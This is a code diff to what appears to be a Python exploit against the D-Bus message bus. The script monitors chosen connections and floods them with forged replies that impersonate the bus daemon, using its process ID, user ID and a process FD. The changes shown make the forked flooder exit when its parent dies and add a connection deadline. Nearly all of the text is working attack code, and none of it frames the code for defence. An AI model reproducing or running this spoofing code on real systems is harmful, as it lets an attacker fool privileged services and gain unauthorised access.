@@ -48,8 +48,8 @@ def forged(target, serial, signature, body, error=None, descriptors=0):
     return build(ERROR if error else REPLY, 1, 0, fields, signature, body, descriptors) + body
 
 
-def flood(address, targets, daemon):
-    """Sends forged replies until it is killed."""
+def flood(address, targets, daemon, parent):
+    """Sends forged replies until it is killed, or until its parent was."""
     pidfd = os.pidfd_open(daemon)
     facts = marshal("a{sv}", [{"UnixUserID": Variant("u", os.getuid()), "ProcessID": Variant("u", daemon),
                                "ProcessFD": Variant("h", 0)}])
@@ -58,7 +58,7 @@ def flood(address, targets, daemon):
     with Connection(address) as connection, Connection(address) as monitor:
         rules = [f"type='method_call',sender='{target}'" for target in targets]
         monitor.call("/org/freedesktop/DBus", BUS + ".Monitoring", "BecomeMonitor", "asu", [rules, 0], to=BUS)
-        while True:
+        while os.getppid() == parent:
             try:
                 while call := monitor.next_message(0.0001):
                     if call.sender in serials:
@@ -96,12 +96,14 @@ def attempts(address):
 
 def main():
     address, end = sys.argv[1], time.monotonic() + float(sys.argv[2])
+    Connection.deadline = end + 0.5
     with Caller(address, timeout=5) as caller:
         targets, daemon = connections(caller), bus_call(caller, "GetConnectionUnixProcessID", BUS)
+    parent = os.getpid()
     flooder = os.fork()
     if not flooder:
         try:
-            flood(address, targets, daemon)
+            flood(address, targets, daemon, parent)
         finally:
             os._exit(1)
     rounds, obtained = 0, []
